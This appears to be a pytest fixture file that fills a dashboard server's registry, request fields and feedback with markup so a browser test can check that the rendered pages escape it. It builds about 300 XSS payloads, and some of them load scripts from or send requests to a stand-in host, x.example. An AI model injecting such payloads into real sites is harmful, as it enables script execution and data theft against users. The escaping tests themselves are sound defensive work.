"""One browser and one server with real traffic for all tests of the pages."""

from __future__ import annotations

import signal
from collections.abc import Iterator

import pytest
import yaml

from tests.browser.chromium import Browser, found
from tests.service.server import Server, write_registry

XSS = "<img src=x onerror=alert(1)>"
SINKS = (
    "<img src=x onerror={}>", "<svg onload={}>", "<script>{}</script>", "\"><script>{}</script>", "'><svg/onload={}>",
    "<iframe srcdoc='<script>{}</script>'>", "<body onload={}>", "<a href=javascript:{}>x</a>", "{{{{{}}}}}", "${{{}}}",
    "<details open ontoggle={}>", "<math><mi xlink:href=javascript:{}>x", "<style>@import 'javascript:{}'</style>",
    "<input autofocus onfocus={}>", "<video><source onerror={}>", "</title><script>{}</script>",
    "<!--><script>{}</script>",
    "<template><script>{}</script></template>", "<object data=javascript:{}>", "<form action=javascript:{}><button>x",
)  # fmt: skip
CALLS = (
    "alert(1)", "confirm`1`", "prompt(2)", "top.alert(3)", "eval('alert(4)')", "print()", "self['al'+'ert'](5)",
    "import('//x.example/y.js')", "fetch('//x.example/z')", "document.write(6)", "location='//x.example'",
    "alert&#40;7&#41;",
    "new Image().src='//x.example'", "setTimeout('alert(8)')", "Function('alert(9)')()",
)  # fmt: skip
PAYLOADS = [sink.format(call) for sink in SINKS for call in CALLS]
"""Three hundred ways in which text has become script elsewhere."""
TEXTS = (
    "write a poem about the sea", "recipe for banana bread", "explain the halting problem", "a haiku on autumn",
    "how to roast a chicken", "poem about rain BREAK", "what is the capital of France", "a limerick about a sailor",
)  # fmt: skip


@pytest.fixture(scope="session")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    """A window."""
    window = Browser(tmp_path_factory.mktemp("chromium"))
    yield window
    window.close()


@pytest.fixture(scope="session")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """A server whose registry, requests and metadata are full of markup, with 190 requests in its ledger."""
    found()  # nothing is started for tests that will be skipped
    registry = write_registry(tmp_path_factory.mktemp("registry"))
    text = registry.read_text().replace("description: Writes poems", f"description: '{XSS}<script>alert(2)</script>'")
    text = text.replace("description: Knows recipes", f"domain: '{XSS}'\n    description: Knows recipes")
    others = yaml.safe_load(text)
    others["aliases"] |= {XSS: "poet", **dict.fromkeys(PAYLOADS[:150], "poet")}
    for number in range(0, len(PAYLOADS), 10):
        told = {"id": f"spare-{number}", "kind": "scripted", "script": "big.jsonl", "params_b": 1, "context": 64}
        others["experts"].append(told | {"description": " ".join(PAYLOADS[number : number + 10])})
    registry.write_text(yaml.safe_dump(others))
    running = Server(tmp_path_factory.mktemp("server"), registry).start()
    try:
        ask(running)
        yield running
    finally:
        running.stop(signal.SIGKILL)


@pytest.fixture
def page(browser: Browser, server: Server) -> Browser:
    """The dashboard, drawn."""
    browser.open(f"{server.base}/dashboard")
    return browser


def ask(running: Server) -> None:
    """Requests of every kind; a tenth by a name that is markup, a quarter with feedback."""
    for number in range(40):
        named = number % 10 == 9
        body = {
            "model": XSS if named else "auto",
            "messages": [{"role": "user", "content": TEXTS[0] if named else TEXTS[number % len(TEXTS)]}],
            "user": XSS,
            "metadata": {"who": f"{XSS}{number}"},
        }
        status, answer, _ = running.post("/v1/chat/completions", body)
        assert status == 200, answer
        if number % 4 == 0:
            feedback = {"request_id": answer["shoal"]["request_id"], "score": 1.0, "comment": XSS}
            assert running.post("/v1/feedback", feedback)[0] == 200
    for payload in PAYLOADS[:150]:
        body = {"model": payload, "messages": [{"role": "user", "content": payload}], "user": payload}
        assert running.post("/v1/chat/completions", body)[0] == 200
    for wrong in (XSS, f"auto:{XSS}"):
        running.post("/v1/chat/completions", {"model": f"no{wrong}", "messages": [{"role": "user", "content": XSS}]})
